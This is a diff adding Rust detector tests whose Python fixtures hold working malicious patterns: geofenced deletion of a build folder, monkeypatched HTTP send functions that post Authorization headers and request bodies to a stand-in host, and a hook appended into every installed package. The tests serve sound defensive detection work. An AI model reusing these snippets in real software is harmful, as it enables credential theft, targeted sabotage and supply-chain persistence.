@@ -1324,3 +1324,174 @@ fn secrets_collected_by_a_comprehension_over_credential_names() {
         details(benign)
     );
 }
+
+#[test]
+fn geofenced_code_compares_where_the_machine_is_with_targeted_places() {
+    // The time zone from the system's file, against a list of zones.
+    let by_zone = r#"
+import shutil
+SPARE = ["Asia/Tehran", "Europe/Kyiv"]
+def here():
+    with open("/etc/timezone") as f:
+        return f.read().strip()
+if here() not in SPARE:
+    pass
+zone = open("/etc/timezone").read().strip()
+if zone in SPARE:
+    shutil.rmtree("build")
+"#;
+    assert!(
+        kinds(by_zone).contains(&K::AntiAnalysis),
+        "{:?}",
+        details(by_zone)
+    );
+    // The abbreviation of the local zone, and a geolocation service's answer.
+    let by_country = r#"
+import time, requests
+if time.tzname[0] == "Europe/Minsk":
+    print("hello")
+info = requests.get("https://geo.invalid/json").json()
+if info["country_code"] in ("BY", "IR"):
+    print("hi")
+"#;
+    let d = details(by_country);
+    assert_eq!(
+        d.iter().filter(|x| x.contains("geofencing")).count(),
+        2,
+        "{d:?}"
+    );
+    // Formatting dates in the local zone, and comparing a zone with a user's setting.
+    let benign = r#"
+import time, os
+label = time.tzname[0]
+if label == os.environ.get("PREFERRED_ZONE"):
+    print("same zone")
+if time.localtime().tm_zone in ("UTC", "GMT"):
+    print("universal time")
+"#;
+    assert!(
+        !kinds(benign).contains(&K::AntiAnalysis),
+        "{:?}",
+        details(benign)
+    );
+}
+
+#[test]
+fn replaced_http_send_functions_that_copy_requests_out() {
+    // The connection's request method replaced; headers kept in a list that a
+    // background function posts elsewhere.
+    let queued = r#"
+import http.client
+import threading, time, json
+import urllib.request
+
+_kept = []
+_real = http.client.HTTPConnection.request
+
+def _flush():
+    while True:
+        time.sleep(30)
+        if _kept:
+            urllib.request.urlopen("https://sink.invalid/in", data=json.dumps(_kept).encode())
+            del _kept[:]
+
+def _request(self, method, url, body=None, headers={}, **kw):
+    if "Authorization" in headers:
+        _kept.append({"host": self.host, "auth": headers["Authorization"]})
+    return _real(self, method, url, body, headers, **kw)
+
+http.client.HTTPConnection.request = _request
+threading.Thread(target=_flush, daemon=True).start()
+"#;
+    let d = details(queued);
+    assert!(
+        d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+    // The session's send replaced; the body posted at once.
+    let direct = r#"
+import requests
+from requests import Session
+_orig = Session.send
+
+def _send(self, prepared, **kw):
+    requests.post("https://sink.invalid/b", data=prepared.body, timeout=3)
+    return _orig(self, prepared, **kw)
+
+Session.send = _send
+"#;
+    let d = details(direct);
+    assert!(
+        d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+    // Instrumentation: the method and the address of each request, sent to a collector.
+    let tracing = r#"
+import queue, threading, json
+import urllib.request
+from requests import adapters
+
+_spans = queue.Queue()
+_orig = adapters.HTTPAdapter.send
+
+def _export():
+    while True:
+        span = _spans.get()
+        urllib.request.urlopen("https://collector.invalid/v1/traces", data=json.dumps(span).encode())
+
+def _send(self, request, **kw):
+    _spans.put({"method": request.method, "url": request.url})
+    return _orig(self, request, **kw)
+
+adapters.HTTPAdapter.send = _send
+threading.Thread(target=_export, daemon=True).start()
+"#;
+    let d = details(tracing);
+    assert!(
+        !d.iter().any(|x| x.starts_with("SecretExfiltration")),
+        "{d:?}"
+    );
+}
+
+#[test]
+fn code_written_into_every_installed_package() {
+    let src = r#"
+import os, sysconfig
+HOOK = "\nimport _helper_hook\n"
+def plant():
+    root = sysconfig.get_path("purelib")
+    for pkg in os.listdir(root):
+        target = os.path.join(root, pkg, "__init__.py")
+        if os.path.exists(target):
+            with open(target, "a") as fh:
+                fh.write(HOOK)
+plant()
+"#;
+    assert!(kinds(src).contains(&K::Persistence), "{:?}", details(src));
+    let loop_form = r#"
+import os, site
+for where in site.getsitepackages():
+    for name in os.listdir(where):
+        open(os.path.join(where, name, "util.py"), "a").write("x = 1\n")
+"#;
+    assert!(
+        kinds(loop_form).contains(&K::Persistence),
+        "{:?}",
+        details(loop_form)
+    );
+    // Reading them (a license scanner), or writing the package's own file there.
+    let benign = r#"
+import os, site
+for where in site.getsitepackages():
+    for name in os.listdir(where):
+        p = os.path.join(where, name, "__init__.py")
+        if os.path.exists(p):
+            print(len(open(p).read()))
+open(os.path.join(site.getusersitepackages(), "mytool.pth"), "w").write("/opt/mytool\n")
+"#;
+    assert!(
+        !kinds(benign).contains(&K::Persistence),
+        "{:?}",
+        details(benign)
+    );
+}
